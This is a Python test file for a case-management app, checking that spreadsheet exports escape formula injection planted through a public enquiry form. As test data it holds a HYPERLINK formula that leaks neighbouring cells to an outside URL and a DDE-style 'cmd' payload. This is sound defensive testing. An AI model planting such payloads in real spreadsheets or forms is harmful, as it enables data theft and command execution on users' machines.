"""Formula injection (issue 18's high finding): a formula planted by anyone through the
public form is inert in every spreadsheet Hearth writes, and an export still imports
back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from crm.imports.outbound import write_csv
from crm.imports.reading import RowError, read_table, write_error_rows
from crm.models import Case, Role
from crm.spreadsheets import inert, unguarded

GOOD = {
    "email": "priya@example.com",
    "phone": "07700 900777",
    "postcode": "LE2 7AB",
    "source": "social_media",
}
PLANTED = '=HYPERLINK("https://example.net/?"&B2&C2,"Open")'


@pytest.fixture
def planted(client, db):
    """An enquiry whose first name is a formula and last name a DDE-style '+' cell."""
    response = client.post(
        "/foster-with-us/", data=dict(GOOD, first_name=PLANTED, last_name="+cmd|' /C calc'!A0")
    )
    assert response.status_code == 302
    return db.session.scalar(sa.select(Case))


def cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("value", ["=1+1", "+44", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_every_risky_start_is_guarded_and_read_back_unchanged(value):
    assert inert(value) == "'" + value and unguarded(inert(value)) == value


def test_plain_values_and_numbers_are_left_alone():
    assert [inert(v) for v in ("Priya", "O'Neill", -2, 3.5, None)] == [
        "Priya", "O'Neill", -2, 3.5, None,
    ]  # fmt: skip


def no_live_formula(found: list[str]) -> bool:
    return not any(str(cell).startswith(("=", "+", "-", "@")) for cell in found)


def test_the_case_list_csv_holds_the_formula_as_text(planted, as_role):
    client = as_role(Role.MANAGER)
    found = cells(client.get("/cases/export.csv").get_data(as_text=True))
    assert any(cell.startswith("'=HYPERLINK(") for cell in found)  # the name: first + last
    assert no_live_formula(found)


def test_the_case_list_xlsx_holds_it_as_a_string_not_a_formula(planted, as_role):
    client = as_role(Role.MANAGER)
    book = load_workbook(io.BytesIO(client.get("/cases/export.xlsx").data))
    found = [c for row in book.active.iter_rows() for c in row]
    planted_cells = [c for c in found if str(c.value).startswith("=HYPERLINK(")]
    assert planted_cells and all(c.data_type == "s" for c in planted_cells)


def test_the_subject_access_csv_holds_it_as_text(planted, as_role):
    client = as_role(Role.ADMINISTRATOR)
    found = cells(client.get(f"/privacy/case/{planted.id}.csv").get_data(as_text=True))
    assert "'" + PLANTED in found and no_live_formula(found)


def test_the_import_format_export_guards_it_and_imports_back_unchanged(planted, tmp_path):
    out = io.StringIO()
    write_csv("tracker", out)
    assert "'" + PLANTED in cells(out.getvalue())
    path = tmp_path / "tracker.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    assert read_table(path).rows[0]["first_name"] == PLANTED


def test_an_errors_file_guards_the_bad_rows_it_copies(tmp_path):
    source = tmp_path / "t.csv"
    with source.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["reference", "first_name"], ["T-1", PLANTED]])
    table = read_table(source)
    errors_file = tmp_path / "errors.csv"
    write_error_rows(errors_file, table, [RowError(2, "enquiry_date", "required")])
    body = errors_file.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in body
